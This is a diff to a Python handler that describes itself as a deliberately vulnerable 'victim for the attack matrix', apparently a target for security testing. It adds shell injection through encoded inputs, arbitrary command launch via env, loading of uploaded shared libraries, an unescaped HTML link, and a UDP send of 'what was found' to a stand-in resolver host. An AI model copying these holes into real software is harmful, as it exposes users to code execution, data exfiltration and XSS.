@@ -1,9 +1,11 @@
 """Does what its event asks for, and trusts it: a victim for the attack matrix. `op` names the operation, `v` is the value it uses."""
 import base64
 import ctypes
+import errno
 import gc
 import importlib.util
 import io
+import itertools
 import json
 import marshal
 import mmap
@@ -47,9 +49,16 @@ def request(event):
             return "names", " ".join(name for name in query if name != "op")
         if query["op"] == "parts":
             return "parts", " ".join(json.loads(event["body"])["parts"])
-        return query["op"], query["v"]
+        return query["op"], query["v"] if "v" in query else base64.b64encode(upload(event)).decode()
     body = json.loads(base64.b64decode(event["body"]) if event.get("isBase64Encoded") else event["body"])
     return body["op"], body["v"]
+
+
+def upload(event):
+    """What was sent as bytes: the body, or the file in a form behind its first field."""
+    body = base64.b64decode(event["body"])
+    boundary = event["headers"]["content-type"].partition("boundary=")[2].encode()
+    return body.split(b"--" + boundary)[2].partition(b"\r\n\r\n")[2][:-2] if boundary else body
 
 
 def sh(command):
@@ -264,8 +273,12 @@ def unzip(archive):
 def send_datagram(target):
     host, port = target.rsplit(":", 1)
     with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
-        sender.sendto(b"what was found", (host, int(port)))
-    return "sent"
+        try:
+            sender.sendto(b"what was found", (host, int(port)))
+        except OSError as error:
+            if error.errno != errno.ENETUNREACH:
+                raise
+    return "sent"  # or this machine has no way there
 
 
 def preload(_):
@@ -287,6 +300,7 @@ def hooked(where):
 
 
 LEFT = []
+LIBRARIES = itertools.count()
 
 
 def leave(*argv):
@@ -316,6 +330,13 @@ class Customer:
         self.name = "Anna"
 
 
+def keep(text):
+    content = base64.b64decode(text)
+    with open("/tmp/kept.bin", "wb") as file:
+        file.write(content)
+    return f"kept {len(content)} bytes"
+
+
 def load_file(path):
     if os.path.exists("/tmp/loaded.txt"):
         os.unlink("/tmp/loaded.txt")
@@ -324,9 +345,11 @@ def load_file(path):
 
 
 def load(library):
-    with open("/tmp/library.so", "wb") as file:
+    """In a file of its own: what is loaded already is not loaded again."""
+    path = f"/tmp/library-{next(LIBRARIES)}.so"
+    with open(path, "wb") as file:
         file.write(library)
-    return load_file("/tmp/library.so")
+    return load_file(path)
 
 
 def module(name, text):
@@ -366,6 +389,15 @@ OPERATIONS = {
     "cookie": lambda v: sh("echo report " + v),
     "names": lambda v: sh("echo report " + v),
     "parts": lambda v: sh("echo report " + v),
+    "shell-twice": lambda v: sh("echo report " + base64.b64decode(base64.b64decode(v)).decode()),
+    "shell-base32": lambda v: sh("echo report " + base64.b32decode(v).decode()),
+    "shell-reversed": lambda v: sh("echo report " + v[::-1]),
+    "launch": lambda v: run("/usr/bin/env", *v.split(" ")),
+    "launch-own": lambda v: run("/usr/bin/env", f"CUSTOMER={v}", "/bin/cat", f"{DATA}/words.txt"),
+    "keep": keep,
+    "resolver": lambda v: send_datagram("198.51.100.53:53"),
+    "resolver-own": lambda v: send_datagram("127.0.0.53:53"),
+    "page-link": lambda v: f"<html><body><a href='{v}'>Your site</a></body></html>",
     "awk": lambda v: run("/usr/bin/awk", f'{{print $0, "{v}"}}', os.path.join(DATA, "words.txt")),
     "page": lambda v: f"<html><body><p>Dear {v}</p></body></html>",
     "library": lambda v: load(base64.b64decode(v)),
